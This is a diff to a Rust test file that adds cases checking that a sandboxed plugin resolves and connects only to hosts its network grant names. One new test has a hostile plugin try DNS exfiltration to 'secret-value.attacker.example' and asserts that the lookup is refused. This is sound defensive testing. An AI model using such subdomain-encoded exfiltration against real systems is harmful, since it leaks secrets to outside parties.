@@ -313,6 +313,8 @@ fn a_plugin_connects_only_to_the_hosts_it_was_granted() {
         ("localhost:5432", "network: [localhost]", true),
         ("127.0.0.1:5432", "network: ['127.0.0.1:5433']", false),
         ("127.0.0.1:5432", "network: ['*.example.com']", false),
+        // Issue 16, hole 11: a name no grant names is not even looked up.
+        ("localhost:5432", "network: ['127.0.0.1:5432']", false),
     ];
     for (target, permissions, allowed) in cases {
         let spec = hostile(
@@ -329,6 +331,27 @@ fn a_plugin_connects_only_to_the_hosts_it_was_granted() {
             "connect to {target} with `{permissions}`: {result}"
         );
     }
+}
+
+/// Issue 16, hole 11: a lookup is a message to whoever runs the zone, so a plugin looks up only
+/// the names its grants name; any other name is refused before a query leaves the machine.
+#[test]
+fn a_plugin_looks_up_only_granted_names() {
+    let work = Workdir::new();
+    let spec = hostile(
+        &work,
+        "action: connect, path: 'secret-value.attacker.example:80'",
+        "network: ['127.0.0.1:5432']",
+    );
+    let run = work.quarry(&["sync", &spec]);
+    assert_eq!(run.code, 0, "{run:?}");
+    assert!(finding(&work).starts_with('<'), "{run:?}");
+    assert!(
+        run.stderr.contains(
+            "lookup of `secret-value.attacker.example` was refused: no network grant names it"
+        ),
+        "{run:?}"
+    );
 }
 
 /// The compile cache holds native code: no grant may reach it, for reading or writing, so a
